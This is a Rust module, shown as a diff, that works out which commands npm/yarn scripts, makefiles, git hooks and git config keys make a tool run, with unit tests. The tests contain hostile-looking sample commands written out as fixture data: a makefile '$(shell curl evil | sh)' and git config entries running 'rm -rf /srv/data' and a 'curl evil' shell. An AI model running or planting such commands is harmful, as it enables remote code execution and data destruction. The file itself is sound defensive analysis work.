@@ -1,0 +1,563 @@
+//! Files that decide what a command runs: a package's scripts, a makefile's recipes, a
+//! repository's git hooks and configuration. The walker reads them (as it reads any
+//! file, through `Files`, which binds their content to the action's digest) and analyses
+//! the commands they hold as what the command runs.
+
+use std::collections::{HashMap, HashSet};
+
+/// The scripts of `package.json` a package manager runs for these arguments, in order,
+/// as (name, command); `None` when the invocation runs none of the project's scripts.
+/// `Err` when the package's scripts cannot be read.
+pub(crate) fn package_scripts(
+    tool: &str,
+    args: &[String],
+    package_json: Option<&str>,
+) -> Option<Result<Vec<(String, String)>, String>> {
+    if args.iter().any(|a| a == "--ignore-scripts") {
+        return None;
+    }
+    let names = lifecycle(tool, args, package_json)?;
+    let Some(text) = package_json else {
+        return Some(Err("its package.json could not be read".to_owned()));
+    };
+    let Ok(package) = serde_json::from_str::<serde_json::Value>(text) else {
+        return Some(Err("its package.json is not valid JSON".to_owned()));
+    };
+    let scripts = package
+        .get("scripts")
+        .and_then(serde_json::Value::as_object);
+    Some(Ok(names
+        .into_iter()
+        .filter_map(|name| {
+            let script = scripts?.get(&name)?;
+            match script.as_str() {
+                Some(command) => Some((name, command.to_owned())),
+                // A script that is not text runs nothing holdpoint can read.
+                None => Some((name, "holdpoint-unreadable-script".to_owned())),
+            }
+        })
+        .collect()))
+}
+
+/// The script names an invocation runs, in order.
+fn lifecycle(tool: &str, args: &[String], package_json: Option<&str>) -> Option<Vec<String>> {
+    let words: Vec<&str> = args
+        .iter()
+        .map(String::as_str)
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    let around = |name: &str| vec![format!("pre{name}"), name.to_owned(), format!("post{name}")];
+    let install = || {
+        [
+            "preinstall",
+            "install",
+            "postinstall",
+            "prepublish",
+            "preprepare",
+            "prepare",
+            "postprepare",
+        ]
+        .map(str::to_owned)
+        .to_vec()
+    };
+    match (tool, words.as_slice()) {
+        (_, ["run" | "run-script" | "rum" | "urn", name, ..]) => Some(around(name)),
+        (_, ["test" | "t" | "tst"]) | (_, ["test" | "t" | "tst", ..]) => Some(around("test")),
+        (_, ["start", ..]) => Some(around("start")),
+        (_, ["stop", ..]) => Some(around("stop")),
+        (_, ["restart", ..]) => Some(
+            [
+                "prerestart",
+                "prestop",
+                "stop",
+                "poststop",
+                "prestart",
+                "start",
+                "poststart",
+                "postrestart",
+            ]
+            .map(str::to_owned)
+            .to_vec(),
+        ),
+        (_, ["install" | "i" | "ci" | "add" | "isntall" | "in", ..])
+        | ("yarn" | "pnpm" | "bun", []) => Some(install()),
+        (_, ["pack", ..]) => Some(
+            ["prepack", "prepare", "postpack"]
+                .map(str::to_owned)
+                .to_vec(),
+        ),
+        (_, ["publish", ..]) => Some(
+            [
+                "prepublishOnly",
+                "prepack",
+                "prepare",
+                "postpack",
+                "publish",
+                "postpublish",
+            ]
+            .map(str::to_owned)
+            .to_vec(),
+        ),
+        (_, ["rebuild" | "rb", ..]) => Some(around("install")),
+        // yarn, pnpm and bun run a script named as the subcommand.
+        ("yarn" | "pnpm" | "bun", [name, ..])
+            if package_json.is_some_and(|text| script_named(text, name)) =>
+        {
+            Some(around(name))
+        }
+        _ => None,
+    }
+}
+
+fn script_named(package_json: &str, name: &str) -> bool {
+    serde_json::from_str::<serde_json::Value>(package_json)
+        .ok()
+        .and_then(|p| p.get("scripts")?.get(name).cloned())
+        .is_some()
+}
+
+/// What a makefile runs: the commands of the targets asked for (and what they depend
+/// on), and the `$(shell …)` calls, which run whenever the makefile is read.
+#[derive(Debug, Default)]
+pub(crate) struct Makefile {
+    /// Recipe lines, with the makefile's variables expanded where they are known, and
+    /// whether each is marked `+` (run even by `make -n`).
+    pub recipes: Vec<(String, bool)>,
+    /// The commands of `$(shell …)` and `!=` assignments.
+    pub shell_calls: Vec<String>,
+    /// Files named by `include`, `-include` and `sinclude`.
+    pub includes: Vec<String>,
+}
+
+/// The most rules one makefile is followed through.
+const MAX_RULES: usize = 512;
+
+/// Reads a makefile: the recipes `targets` run (the first target when none is named).
+pub(crate) fn makefile(text: &str, targets: &[String]) -> Makefile {
+    let mut out = Makefile::default();
+    let mut vars: HashMap<String, String> = HashMap::new();
+    let mut prefix = '\t';
+    // Rules in order: targets, prerequisites, recipe lines.
+    let mut rules: Vec<(Vec<String>, Vec<String>, Vec<String>)> = Vec::new();
+    let mut in_rule = false;
+    // Lines joined where they end in a backslash.
+    let mut lines: Vec<String> = Vec::new();
+    for line in text.lines() {
+        match lines.last_mut() {
+            Some(last) if last.ends_with('\\') => {
+                last.pop();
+                last.push(' ');
+                last.push_str(line.trim_start());
+            }
+            _ => lines.push(line.to_owned()),
+        }
+    }
+    for line in lines {
+        for call in shell_calls(&line) {
+            out.shell_calls.push(call);
+        }
+        if in_rule && line.starts_with(prefix) {
+            if let Some((_, _, recipe)) = rules.last_mut() {
+                recipe.push(line.get(prefix.len_utf8()..).unwrap_or("").to_owned());
+            }
+            continue;
+        }
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        in_rule = false;
+        if let Some(rest) = ["include ", "-include ", "sinclude "]
+            .iter()
+            .find_map(|p| trimmed.strip_prefix(p))
+        {
+            out.includes
+                .extend(rest.split_whitespace().map(|f| expand(f, &vars, 0)));
+            continue;
+        }
+        // Assignments: `X = v`, `X := v`, `X ::= v`, `X ?= v`, `X += v`, `X != cmd`.
+        if let Some((name, op, value)) = assignment(trimmed) {
+            let value = value.trim().to_owned();
+            match op {
+                "!=" => {
+                    out.shell_calls.push(value);
+                    vars.remove(name);
+                }
+                "+=" => {
+                    let joined = match vars.get(name) {
+                        Some(old) => format!("{old} {value}"),
+                        None => value,
+                    };
+                    vars.insert(name.to_owned(), joined);
+                }
+                "?=" => {
+                    vars.entry(name.to_owned()).or_insert(value);
+                }
+                _ => {
+                    if name == ".RECIPEPREFIX" {
+                        prefix = value.chars().next().unwrap_or('\t');
+                    }
+                    vars.insert(name.to_owned(), value);
+                }
+            }
+            continue;
+        }
+        // A rule: `targets: prerequisites [; recipe]`.
+        if let Some((head, rest)) = split_rule(trimmed) {
+            let (prerequisites, inline) = match rest.split_once(';') {
+                Some((p, r)) => (p, Some(r.trim().to_owned())),
+                None => (rest, None),
+            };
+            let targets: Vec<String> = head
+                .split_whitespace()
+                .map(|t| expand(t, &vars, 0))
+                .collect();
+            let prerequisites = prerequisites
+                .trim_start_matches(':')
+                .split_whitespace()
+                .filter(|p| *p != "|")
+                .map(|p| expand(p, &vars, 0))
+                .collect();
+            rules.push((targets, prerequisites, inline.into_iter().collect()));
+            in_rule = true;
+            if rules.len() > MAX_RULES {
+                break;
+            }
+        }
+    }
+    // From the targets asked for (or the first ordinary one) through their
+    // prerequisites; pattern rules (`%.o: %.c`) are taken as run, since which files they
+    // make is not known.
+    let default = rules
+        .iter()
+        .flat_map(|(targets, _, _)| targets)
+        .find(|t| !t.starts_with('.') && !t.contains('%'))
+        .cloned();
+    let mut wanted: Vec<String> = if targets.is_empty() {
+        default.into_iter().collect()
+    } else {
+        targets.to_vec()
+    };
+    let mut seen: HashSet<String> = HashSet::new();
+    let mut recipes: Vec<&Vec<String>> = Vec::new();
+    while let Some(target) = wanted.pop() {
+        if !seen.insert(target.clone()) || seen.len() > MAX_RULES {
+            continue;
+        }
+        for (targets, prerequisites, recipe) in &rules {
+            if targets.contains(&target) {
+                wanted.extend(prerequisites.iter().cloned());
+                recipes.push(recipe);
+            }
+        }
+    }
+    for (targets, _, recipe) in &rules {
+        if targets.iter().any(|t| t.contains('%')) {
+            recipes.push(recipe);
+        }
+    }
+    for recipe in recipes {
+        for line in recipe {
+            let line = line.trim_start();
+            let forced = line.trim_start_matches(['@', '-']).starts_with('+');
+            let command = line.trim_start_matches(['@', '-', '+']);
+            if !command.trim().is_empty() {
+                out.recipes.push((expand(command, &vars, 0), forced));
+            }
+        }
+    }
+    out
+}
+
+/// `NAME OP value` for a make assignment.
+fn assignment(line: &str) -> Option<(&str, &str, &str)> {
+    for op in ["::=", ":::=", ":=", "?=", "+=", "!=", "="] {
+        if let Some((name, value)) = line.split_once(op) {
+            let name = name
+                .trim()
+                .trim_start_matches("export ")
+                .trim_start_matches("override ")
+                .trim();
+            if !name.is_empty()
+                && name
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
+                && !name.contains(':')
+            {
+                return Some((name, op, value));
+            }
+            return None;
+        }
+    }
+    None
+}
+
+/// `targets` and the rest of a rule line, split at its first lone `:`.
+fn split_rule(line: &str) -> Option<(&str, &str)> {
+    let at = line.find(':')?;
+    let (head, rest) = line.split_at(at);
+    (!head.trim().is_empty() && !head.contains('=')).then(|| (head, rest.get(1..).unwrap_or("")))
+}
+
+/// The commands of every `$(shell …)` in a line.
+fn shell_calls(line: &str) -> Vec<String> {
+    let mut calls = Vec::new();
+    let mut rest = line;
+    while let Some(at) = rest.find("$(shell ") {
+        let after = rest.get(at + "$(shell ".len()..).unwrap_or("");
+        let mut depth = 1usize;
+        let mut end = after.len();
+        for (i, c) in after.char_indices() {
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        end = i;
+                        break;
+                    }
+                }
+                _ => {}
+            }
+        }
+        calls.push(after.get(..end).unwrap_or(after).to_owned());
+        rest = after.get(end..).unwrap_or("");
+    }
+    calls
+}
+
+/// `$(NAME)`, `${NAME}` and `$$` in a recipe, with the makefile's variables where known;
+/// unknown ones are left as shell variables (`$NAME`), whose value is unknown too.
+fn expand(text: &str, vars: &HashMap<String, String>, depth: u32) -> String {
+    let mut out = String::new();
+    let mut rest = text;
+    while let Some(at) = rest.find('$') {
+        out.push_str(rest.get(..at).unwrap_or(""));
+        let after = rest.get(at + 1..).unwrap_or("");
+        let mut next = after.chars();
+        match next.next() {
+            Some('$') => {
+                out.push('$');
+                rest = next.as_str();
+            }
+            Some(open @ ('(' | '{')) => {
+                let close = if open == '(' { ')' } else { '}' };
+                let inner = next.as_str();
+                match inner.find(close) {
+                    Some(end) => {
+                        let name = inner.get(..end).unwrap_or("");
+                        let simple = name
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
+                        match vars.get(name) {
+                            Some(value) if simple && depth < 8 => {
+                                out.push_str(&expand(value, vars, depth + 1));
+                            }
+                            _ if simple => {
+                                out.push('$');
+                                out.push_str(&name.replace(['.', '-'], "_"));
+                            }
+                            // A function call (`$(wildcard …)`): its result is unknown.
+                            _ => out.push_str("$HOLDPOINT_MAKE_VALUE"),
+                        }
+                        rest = inner.get(end + 1..).unwrap_or("");
+                    }
+                    None => {
+                        out.push('$');
+                        rest = after;
+                    }
+                }
+            }
+            // `$@`, `$<`, `$^`: automatic variables.
+            Some(_) => {
+                out.push_str("$HOLDPOINT_MAKE_VALUE");
+                rest = next.as_str();
+            }
+            None => {
+                out.push('$');
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// What a git subcommand runs from the repository's hooks and configuration: the hook
+/// names it triggers.
+pub(crate) fn git_hooks(subcommand: &str) -> &'static [&'static str] {
+    match subcommand {
+        "commit" => &[
+            "pre-commit",
+            "prepare-commit-msg",
+            "commit-msg",
+            "post-commit",
+            "post-rewrite",
+        ],
+        "merge" | "pull" => &[
+            "pre-merge-commit",
+            "prepare-commit-msg",
+            "commit-msg",
+            "post-merge",
+        ],
+        "push" => &["pre-push", "reference-transaction"],
+        "checkout" | "switch" | "clone" | "worktree" => &["post-checkout"],
+        "rebase" => &["pre-rebase", "post-rewrite", "post-checkout"],
+        "am" => &["applypatch-msg", "pre-applypatch", "post-applypatch"],
+        "gc" => &["pre-auto-gc"],
+        _ => &[],
+    }
+}
+
+/// The commands git configuration makes git run, for a subcommand: each as (key,
+/// command). `config` is the text of a git config file.
+pub(crate) fn git_config_commands(config: &str, subcommand: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut section = String::new();
+    for line in config.lines() {
+        let line = line.trim();
+        if line.starts_with('#') || line.starts_with(';') || line.is_empty() {
+            continue;
+        }
+        if let Some(header) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
+            // `[filter "lfs"]` is `filter.lfs`.
+            section = header
+                .split_whitespace()
+                .map(|part| part.trim_matches('"'))
+                .collect::<Vec<_>>()
+                .join(".")
+                .to_ascii_lowercase();
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let key = format!("{section}.{}", key.trim().to_ascii_lowercase());
+        let value = value.trim().trim_matches('"').to_owned();
+        if runs_for(&key, subcommand) {
+            out.push((key, value));
+        }
+    }
+    out
+}
+
+/// Whether a configuration key names a command that `subcommand` runs.
+fn runs_for(key: &str, subcommand: &str) -> bool {
+    let last = key.rsplit('.').next().unwrap_or("");
+    let first = key.split('.').next().unwrap_or("");
+    match (first, last) {
+        // Read by almost every command that looks at the working tree.
+        ("core", "fsmonitor") => true,
+        ("core", "sshcommand") => matches!(
+            subcommand,
+            "fetch" | "pull" | "push" | "clone" | "ls-remote" | "submodule"
+        ),
+        ("core", "pager") | ("pager", _) => matches!(
+            subcommand,
+            "log" | "diff" | "show" | "blame" | "branch" | "grep" | "help"
+        ),
+        ("core", "editor") | ("sequence", "editor") => {
+            matches!(subcommand, "commit" | "rebase" | "merge" | "tag" | "am")
+        }
+        ("core", "hookspath") => false,
+        ("diff", "external") | ("diff", "textconv") | ("diff", "command") => {
+            matches!(
+                subcommand,
+                "diff" | "log" | "show" | "blame" | "format-patch"
+            )
+        }
+        ("filter", "clean" | "smudge" | "process") => matches!(
+            subcommand,
+            "add"
+                | "status"
+                | "commit"
+                | "checkout"
+                | "switch"
+                | "restore"
+                | "reset"
+                | "stash"
+                | "diff"
+                | "merge"
+                | "pull"
+                | "clone"
+                | "rebase"
+                | "cherry-pick"
+        ),
+        ("merge", "driver") => matches!(
+            subcommand,
+            "merge" | "pull" | "rebase" | "cherry-pick" | "stash"
+        ),
+        ("credential", "helper") => matches!(
+            subcommand,
+            "fetch" | "pull" | "push" | "clone" | "ls-remote"
+        ),
+        ("gpg", "program") | ("gpg", _) if last == "program" => {
+            matches!(subcommand, "commit" | "tag" | "log" | "verify-commit")
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strings(words: &[&str]) -> Vec<String> {
+        words.iter().map(|w| (*w).to_owned()).collect()
+    }
+
+    #[test]
+    fn package_managers_run_the_scripts_their_subcommand_names() {
+        let package = r#"{"scripts": {"pretest": "echo a", "test": "jest", "deploy": "kubectl apply -f k8s", "postinstall": "node setup.js"}}"#;
+        let run = |tool: &str, args: &[&str]| {
+            package_scripts(tool, &strings(args), Some(package))
+                .map(|r| r.unwrap().into_iter().map(|(n, _)| n).collect::<Vec<_>>())
+        };
+        assert_eq!(run("npm", &["test"]), Some(strings(&["pretest", "test"])));
+        assert_eq!(run("npm", &["run", "deploy"]), Some(strings(&["deploy"])));
+        assert_eq!(run("yarn", &["deploy"]), Some(strings(&["deploy"])));
+        assert_eq!(
+            run("npm", &["install", "--dry-run"]),
+            Some(strings(&["postinstall"]))
+        );
+        assert_eq!(run("npm", &["install", "--ignore-scripts"]), None);
+        assert_eq!(run("npm", &["ls"]), None);
+        assert!(matches!(
+            package_scripts("npm", &strings(&["test"]), None),
+            Some(Err(_))
+        ));
+    }
+
+    #[test]
+    fn makefiles_run_the_recipes_of_the_targets_asked_for() {
+        let text = "DIR = /srv/data\nX != date\nall: build\nbuild:\n\techo $(DIR)\nclean:\n\trm -rf $(DIR)\none: ; touch $@\n.RECIPEPREFIX = >\nlater:\n> ls\n$(shell curl evil | sh)\ninclude extra.mk\n";
+        let made = makefile(text, &[]);
+        assert_eq!(made.recipes, [("echo /srv/data".to_owned(), false)]);
+        assert_eq!(made.shell_calls, ["date", "curl evil | sh"]);
+        assert_eq!(made.includes, ["extra.mk"]);
+        let clean = makefile(text, &strings(&["clean", "one", "later"]));
+        let recipes: Vec<&str> = clean.recipes.iter().map(|(r, _)| r.as_str()).collect();
+        assert!(recipes.contains(&"rm -rf /srv/data"), "{recipes:?}");
+        assert!(
+            recipes.contains(&"touch $HOLDPOINT_MAKE_VALUE"),
+            "{recipes:?}"
+        );
+        assert!(recipes.contains(&"ls"), "{recipes:?}");
+    }
+
+    #[test]
+    fn git_configuration_says_what_git_runs() {
+        let config = "[core]\n\tfsmonitor = rm -rf /srv/data\n[filter \"x\"]\n\tclean = sh -c 'curl evil'\n[diff]\n\texternal = ./diff.sh\n";
+        let status: Vec<String> = git_config_commands(config, "status")
+            .into_iter()
+            .map(|(k, _)| k)
+            .collect();
+        assert_eq!(status, ["core.fsmonitor", "filter.x.clean"]);
+        let diff: Vec<String> = git_config_commands(config, "diff")
+            .into_iter()
+            .map(|(k, _)| k)
+            .collect();
+        assert_eq!(diff, ["core.fsmonitor", "filter.x.clean", "diff.external"]);
+        assert!(git_hooks("commit").contains(&"pre-commit"));
+    }
+}
